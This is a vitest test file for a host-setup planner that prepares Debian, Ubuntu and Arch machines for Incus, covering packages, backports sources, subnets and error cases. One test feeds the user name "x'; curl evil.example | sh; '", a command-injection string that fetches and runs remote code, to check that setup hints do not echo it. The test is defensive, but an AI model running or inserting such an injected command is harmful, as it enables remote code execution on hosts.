import { describe, expect, it } from 'vitest'
import { commandLines } from '../../../src/cli/render/host-setup.js'
import { Cul8erError } from '../../../src/errors.js'
import { readOsRelease } from '../../../src/host-setup/os-release.js'
import { setupPlan } from '../../../src/host-setup/plan.js'
import type { MachineFacts, SetupWishes } from '../../../src/host-setup/facts.js'
import { ARCH, BOOKWORM, incus, machine, NOBLE, TRIXIE, wishes } from './world.js'

const APT = "apt-get -o 'DPkg::Lock::Timeout=300' -o 'Acquire::Retries=2'"

/** The programs that a step runs. */
function ran(facts: MachineFacts, step: string, more: Partial<SetupWishes> = {}): string[] {
  return setupPlan(facts, wishes(more))
    .steps.filter(({ name }) => name === step)
    .flatMap(commandLines)
}

describe('a fresh machine', () => {
  it('gets everything, in this order', () => {
    expect(setupPlan(machine(BOOKWORM), wishes()).steps.map(({ name }) => name)).toEqual([
      ...['sources', 'ids', 'packages', 'service', 'pool', 'bridge', 'profile'],
    ])
  })

  it.each([
    [
      'Debian 12',
      BOOKWORM,
      [
        `${APT} -o 'APT::Update::Error-Mode=any' update -q`,
        `${APT} install -q -y --no-install-recommends incus-base incus-client dnsmasq-base nftables zstd`,
      ],
    ],
    [
      'Debian 13',
      TRIXIE,
      [
        `${APT} -o 'APT::Update::Error-Mode=any' update -q`,
        `${APT} install -q -y --no-install-recommends incus-base incus-client dnsmasq-base nftables zstd`,
      ],
    ],
    [
      'Ubuntu',
      NOBLE,
      [
        `${APT} -o 'APT::Update::Error-Mode=any' update -q`,
        `${APT} install -q -y --no-install-recommends incus incus-client dnsmasq-base nftables zstd`,
      ],
    ],
    ['Arch', ARCH, ['pacman -S --needed --noconfirm incus dnsmasq nftables zstd']],
  ])('with %s', (_, os, packages) => {
    expect(ran(machine(os), 'packages')).toEqual(packages)
    expect(ran(machine(os), 'sources')).toHaveLength(os === BOOKWORM ? 1 : 0)
  })

  it('that is to run virtual machines gets more, and so does one with another pool', () => {
    expect(ran(machine(BOOKWORM), 'packages', { vms: true })[1]).toMatch(/ incus incus-client /)
    const facts = machine(ARCH, { fileSystems: ['btrfs'] })
    expect(ran(facts, 'packages', { storage: 'btrfs' })[0]).toMatch(/ btrfs-progs$/)
    expect(ran(facts, 'pool', { storage: 'btrfs' })).toEqual(["incus storage create default btrfs 'size=13GiB'"])
  })

  it.each([
    ['a one-line list', 'deb [signed-by=/k.gpg] http://m/debian bookworm main\n', 'http://m/debian', '/k.gpg'],
    [
      'a list in paragraphs',
      'Types: deb\nURIs: http://s/security\nSuites: bookworm-security\n\nTypes: deb\nURIs: http://m/debian\nSuites: bookworm bookworm-updates\nComponents: main\nSigned-By: /d.gpg\n',
      'http://m/debian',
      '/d.gpg',
    ],
    [
      'a list without a key',
      '# deb http://old/debian bookworm main\ndeb http://m/debian bookworm main\n',
      'http://m/debian',
      '/usr/share/keyrings/debian-archive-keyring.gpg',
    ],
    [
      'a list of a provider',
      'deb https://mirror.hetzner.com/debian/packages bookworm main\n',
      'https://mirror.hetzner.com/debian/packages',
      '/usr/share/keyrings/debian-archive-keyring.gpg',
    ],
    [
      "Debian's own of several vendors' that have a suite of that name",
      'deb [signed-by=/etc/apt/keyrings/zabbix.gpg] https://repo.zabbix.com/zabbix/7.0/debian bookworm main\n' +
        'deb [signed-by=/usr/share/keyrings/debian-archive-keyring.gpg] http://m/debian bookworm main\n\n' +
        'Types: deb\nURIs: https://download.docker.com/linux/debian\nSuites: bookworm\nComponents: stable\nSigned-By: /etc/apt/keyrings/docker.asc\n',
      'http://m/debian',
      '/usr/share/keyrings/debian-archive-keyring.gpg',
    ],
  ])('has backports from the mirror in %s', (_, source, uri, key) => {
    const [line = ''] = ran(machine(BOOKWORM, { sources: [source] }), 'sources')
    expect(line).toContain(`URIs: ${uri}\\nSuites: bookworm-backports\\nComponents: main\\nSigned-By: ${key}\\n`)
  })

  it('that has backports keeps them', () => {
    const sources = ['deb http://m/debian bookworm main', 'deb http://m/debian bookworm-backports main']
    expect(ran(machine(BOOKWORM, { sources }), 'sources')).toEqual([])
  })

  it('gives root IDs behind those of others, and none twice', () => {
    const subuid = ['anna:100000:65536', 'container:900000:500000']
    expect(ran(machine(ARCH, { subuid, subgid: ['root:1:2'] }), 'ids')).toEqual([
      "printf %s 'root:1400000:10000000\\n' | tee -a /etc/subuid",
    ])
  })
})

describe('the subnet of the bridge', () => {
  const subnet = (more: Partial<SetupWishes>, facts: Partial<MachineFacts> = {}): string | undefined =>
    /ipv4\.address=([^']+)/.exec(ran(machine(ARCH, facts), 'bridge', more)[0] ?? '')?.[1]

  it.each([
    ['is the first one', subnet({}), '10.118.0.1/24'],
    ['is one of its own for each host of a topology', subnet({ place: 2 }), '10.120.0.1/24'],
    ['is none that the host has a route to', subnet({}, { routes: ['10.118.0.0/15'] }), '10.120.0.1/24'],
    ['is none of another host', subnet({ others: { h1: ['10.118.0.1/24'] } }), '10.119.0.1/24'],
    ['is the one that was asked for', subnet({ subnet: '10.85.0.1/22' }), '10.85.0.1/22'],
  ])('%s', (_, found, wanted) => {
    expect(found).toBe(wanted)
  })
})

describe('a machine that somebody set up', () => {
  it.each([
    ['as this does needs nothing', {}, {}, []],
    [
      'without a root disk gets one in its pool',
      { devices: { eth0: { type: 'nic', network: 'incusbr0' } } },
      {},
      ['profile'],
    ],
    [
      'with Incus alone gets the rest',
      { pools: [], networks: [], devices: {} },
      { interfaces: [] },
      ['pool', 'bridge', 'profile'],
    ],
    ['with an Incus that does not answer has it started', { silent: 'down' }, {}, ['service']],
    [
      'with a network of its own keeps it',
      {
        networks: [],
        devices: { root: { type: 'disk', path: '/', pool: 'default' }, lan: { type: 'nic', parent: 'br0' } },
      },
      {},
      [],
    ],
    ['for a login of its own lets that use Incus', {}, { user: 'deploy', root: 'sudo' as const }, ['login']],
    ['for a login that may use it needs nothing', {}, { user: 'd', root: null, groups: ['d', 'incus-admin'] }, []],
    ['and that cannot unpack images of ours', {}, { zstd: false }, ['packages']],
    ['with what this does not know, where nothing is missing', {}, { os: machine('ID=nixos').os, systemd: false }, []],
  ])('%s', (_, has, more, steps) => {
    const facts = machine(BOOKWORM, { zstd: true, incus: incus(has), interfaces: ['incusbr0'], ...more })
    expect(setupPlan(facts, wishes()).steps.map(({ name }) => name)).toEqual(steps)
  })

  it('says what stays as it is', () => {
    const facts = machine(BOOKWORM, { zstd: true, incus: incus() })
    const more = { storage: 'btrfs' as const, subnet: '10.85.0.1/24', others: { h2: ['10.118.0.1/24'] } }
    expect(setupPlan(facts, wishes(more)).notes).toEqual([
      'the pool default is dir and stays so: a pool cannot be turned into btrfs',
      expect.stringMatching(/^incusbr0 has the subnet 10\.118\.0\.1\/24, and so has host h2: /) as string,
      'incusbr0 has the subnet 10.118.0.1/24 and keeps it',
    ])
  })
})

it.each([
  ['a login that is not root', { user: 'anna', root: null }, {}, 'PERMISSION', 'anna is not root'],
  ['another distribution', { os: machine('ID=nixos\nPRETTY_NAME=NixOS').os }, {}, 'NOT_SUPPORTED_YET', 'on NixOS'],
  ['one like a known one', { os: machine('ID=mint\nID_LIKE=ubuntu').os }, {}, 'NOT_SUPPORTED_YET', 'on mint'],
  ['an old one', { os: machine('ID=debian\nVERSION_ID="11"').os }, {}, 'NOT_SUPPORTED_YET', 'Debian 11 has no Incus'],
  ['an old Ubuntu', { os: machine('ID=ubuntu\nVERSION_ID="22.04"').os }, {}, 'NOT_SUPPORTED_YET', 'Ubuntu 22.04'],
  ['no systemd', { systemd: false }, {}, 'NOT_SUPPORTED_YET', 'not run by systemd'],
  ['a small disk', { freeMiB: 2_000 }, {}, 'NO_SPACE', 'are free in /var/lib'],
  ["somebody's interface", { interfaces: ['eth0', 'incusbr0'] }, {}, 'NAME_CLASH', "incusbr0 that is not Incus's"],
  ['no such file system', {}, { storage: 'zfs' as const }, 'USAGE', 'the kernel of the host has no zfs'],
  ['no subnet', {}, { subnet: '10.85.0.1' }, 'USAGE', 'expected one such as 10.85.0.1/24'],
  ['a subnet of the host', {}, { subnet: '192.168.0.1/16' }, 'USAGE', 'the network 192.168.1.0/24 of the host'],
  [
    'a subnet of another',
    {},
    { subnet: '10.85.0.1/24', others: { h2: ['10.85.0.1/16'] } },
    'USAGE',
    'that of host h2 (10.85.0.1/16)',
  ],
  ['no mirror', { sources: ['deb http://m/debian sid main'] }, {}, 'NOT_FOUND', 'no package source'],
  [
    'no mirror but those of vendors',
    {
      sources: [
        'deb [signed-by=/docker.asc] https://download.docker.com/linux/debian bookworm stable',
        'deb [signed-by=/hashicorp.gpg] https://apt.releases.hashicorp.com bookworm main',
      ],
    },
    {},
    'NOT_FOUND',
    'no package source',
  ],
  [
    'two mirrors with keys of which nobody knows whose they are',
    {
      sources: ['deb [signed-by=/a] http://a/debian bookworm main', 'deb [signed-by=/b] http://b/debian bookworm main'],
    },
    {},
    'NOT_FOUND',
    'no package source',
  ],
  [
    'a mirror with a password, which others on the host are not to read',
    { sources: ['deb http://me:secret@m/debian bookworm main'] },
    {},
    'NOT_FOUND',
    'no package source',
  ],
])('stops at %s', (_, facts, more, code, message) => {
  const plan = (): unknown => setupPlan(machine(BOOKWORM, facts), wishes(more))
  expect(plan).toThrow(Cul8erError)
  expect(plan).toThrow(expect.objectContaining({ code, message: expect.stringContaining(message) as string }) as Error)
})

it('gives no command to paste with what a host says that its login is called', () => {
  const hintFor = (user: string): string | undefined => {
    try {
      setupPlan(machine(BOOKWORM, { user, root: null }), wishes())
    } catch (error) {
      return (error as Cul8erError).hint
    }
  }
  expect(hintFor('anna')).toContain("echo 'anna ALL=(ALL) NOPASSWD: ALL'")
  expect(hintFor("x'; curl evil.example | sh; '")).not.toMatch(/curl|echo/)
})

it('reads an /etc/os-release of any size at once', () => {
  const began = performance.now()
  expect(readOsRelease(`ID=debian\nNAME=${' '.repeat(500_000)}x\n`).id).toBe('debian')
  expect(performance.now() - began).toBeLessThan(500)
})
